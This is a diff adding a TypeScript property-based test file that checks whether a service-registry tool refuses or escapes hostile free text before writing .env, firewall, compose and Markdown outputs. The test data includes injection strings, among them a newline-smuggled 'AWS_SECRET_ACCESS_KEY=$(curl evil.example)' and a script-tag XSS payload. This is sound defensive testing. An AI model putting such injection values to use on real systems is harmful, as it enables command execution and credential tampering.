@@ -1,0 +1,76 @@
+import fc from 'fast-check';
+import { checkRegistry, RegistrySpec } from '../lib';
+import { composeFiles } from '../lib/emit/compose';
+import { connectionsTable } from '../lib/emit/connections-table';
+import { envFiles } from '../lib/emit/env-files';
+import { firewallFiles } from '../lib/emit/firewall';
+import { markdownCell } from '../lib/emit/escape';
+import { portsMarkdown } from '../lib/emit/ports-md';
+import { cleanSpec } from './support/specs';
+
+/**
+ * Hostile text: whatever a free-text field holds, it either is refused with a finding that names it,
+ * or it reaches the outputs without adding a line to a .env or Nix file, a cell to a Markdown table,
+ * or markup to the registry document.
+ */
+const nasty = fc.oneof(
+  fc.string(),
+  fc.constantFrom('a\nAWS_SECRET_ACCESS_KEY=$(curl x)', 'x\r\ny', '| a | b |', '<!-- hidden', '<script>alert(1)</script>', '`code', 'line\u2028break', '"quoted" \\ back', '${HOME}'),
+  fc.string({ unit: fc.constantFrom('a', '|', '\n', '\r', '<', '>', '`', '#', '=', ' ', '"', '\\', '\u0000', '\u2028') }),
+);
+
+/** A Markdown table's rows all have the header's number of cells (escaped pipes do not count). */
+function tablesKeepTheirShape(markdown: string): void {
+  const cells = (line: string) => line.replace(/\\\|/g, '').split('|').length;
+  let width: number | undefined;
+  for (const line of markdown.split('\n')) {
+    if (!line.startsWith('|')) {
+      width = undefined;
+      continue;
+    }
+    width ??= cells(line);
+    if (cells(line) !== width) throw new Error(`a table row changed shape: ${JSON.stringify(line)}`);
+  }
+  // Outside code spans (where Markdown shows `<` as it is), no tag and no comment can open.
+  const prose = markdown.replace(/\\`/g, '').replace(/`[^`\n]*`/g, '');
+  if (/<[a-zA-Z!/]/.test(prose)) throw new Error(`raw HTML in the registry document: ${prose.split('\n').find(l => /<[a-zA-Z!/]/.test(l))}`);
+}
+
+test('free text never adds a line, a key or a cell to an output; refused text is named', () => {
+  fc.assert(fc.property(nasty, nasty, nasty, nasty, (description, owner, reason, command) => {
+    const spec = cleanSpec() as RegistrySpec & { services: NonNullable<RegistrySpec['services']> };
+    spec.description = description;
+    spec.services.api.owner = owner;
+    spec.services.api.description = description;
+    spec.services.api.healthCheck = { command, port: 'http' };
+    spec.externals!.db.kind = 'postgres';
+    spec.waivers = [{ rule: 'unreachable', service: 'worker', reason: reason || 'x' }];
+    spec.services.worker.public = false;
+    const r = checkRegistry(spec);
+    if (!r.ok) {
+      // Refused: only because of the text, and the finding says which field.
+      const errors = r.findings.filter(f => f.severity === 'error' && !f.waived);
+      for (const f of errors) expect(f.rule).toBe('invalid-value');
+      return;
+    }
+    for (const [, text] of envFiles(r)) {
+      for (const line of text.split('\n').filter(Boolean)) expect(line).toMatch(/^(#[^\n]*|[A-Z_][A-Z0-9_]*=[^\n]*)$/);
+    }
+    for (const [, text] of firewallFiles(r)) expect(text.split('\n')).toHaveLength(7);
+    for (const [, text] of composeFiles(r)) expect(text.split('\n').filter(l => l.startsWith('#')).length).toBeGreaterThanOrEqual(2);
+    tablesKeepTheirShape(portsMarkdown(r));
+    tablesKeepTheirShape(connectionsTable(r));
+  }), { numRuns: Number(process.env.FC_RUNS ?? 300), seed: process.env.FC_SEED ? Number(process.env.FC_SEED) : undefined });
+});
+
+test('a Markdown cell cannot break its table or open markup', () => {
+  expect(markdownCell('a | b\r\nc <!-- d `e`')).toBe('a \\| b c &lt;!-- d \\`e\\`');
+});
+
+test('an external host with a newline is refused, not written into .env', () => {
+  const spec = cleanSpec();
+  spec.externals!.db.host = 'db.internal\nAWS_SECRET_ACCESS_KEY=$(curl evil.example)';
+  const r = checkRegistry(spec);
+  expect(r.ok).toBe(false);
+  expect(r.findings.find(f => f.rule === 'invalid-value')?.where).toMatchObject({ service: 'db', path: 'externals.db.host' });
+});
